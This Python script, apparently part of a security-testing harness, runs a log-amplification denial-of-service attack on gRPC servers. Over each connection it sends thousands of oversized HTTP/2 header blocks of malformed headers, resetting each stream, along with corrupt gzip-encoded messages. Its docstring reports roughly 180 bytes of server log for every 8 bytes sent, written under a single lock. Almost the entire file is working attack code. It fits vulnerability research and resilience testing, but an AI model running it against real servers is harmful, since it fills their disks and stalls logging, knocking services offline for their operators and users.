"""Headers that gRPC reports as errors, one line of log each: thousands of eight bytes in one block.

Found: 180 bytes of log for 8 bytes sent, hundreds of megabytes a minute, written under one lock.
"""

import gzip

import hpack
import http2
from attack import Attack, Target, one_after_the_other, run
from http2 import END_HEADERS, frame


def bad_headers(name: str, value: str):
    block = http2.request_headers("Execute") + hpack.literal(name, value) * 1500

    def attack(target: Target) -> None:
        connection = target.connect()
        for _ in range(2000):
            stream = connection.next_stream()
            pieces = [block[i : i + 16000] for i in range(0, len(block), 16000)]
            connection.send(
                frame(http2.HEADERS, 0 if len(pieces) > 1 else END_HEADERS, stream, pieces[0])
                + b"".join(
                    frame(http2.CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, stream, piece)
                    for piece in pieces[1:]
                )
                + frame(http2.RST_STREAM, 0, stream, bytes(4))
            )

    return attack


def bad_gzip(target: Target) -> None:
    """Corrupt messages, each a line or two."""
    connection = target.connect()
    content = gzip.compress(bytes(100))[:-12] + bytes(12)
    for _ in range(2000):
        call = connection.begin("Execute", extra=[("grpc-encoding", "gzip")])
        connection.write(call, http2.framed(content, 1), end=True)
        connection.poll(0)


if __name__ == "__main__":
    run(
        Attack(
            [one_after_the_other(bad_headers("te", "x"), bad_headers("grpc-status", "é"), bad_gzip)], log_per_byte=0.5
        )
    )
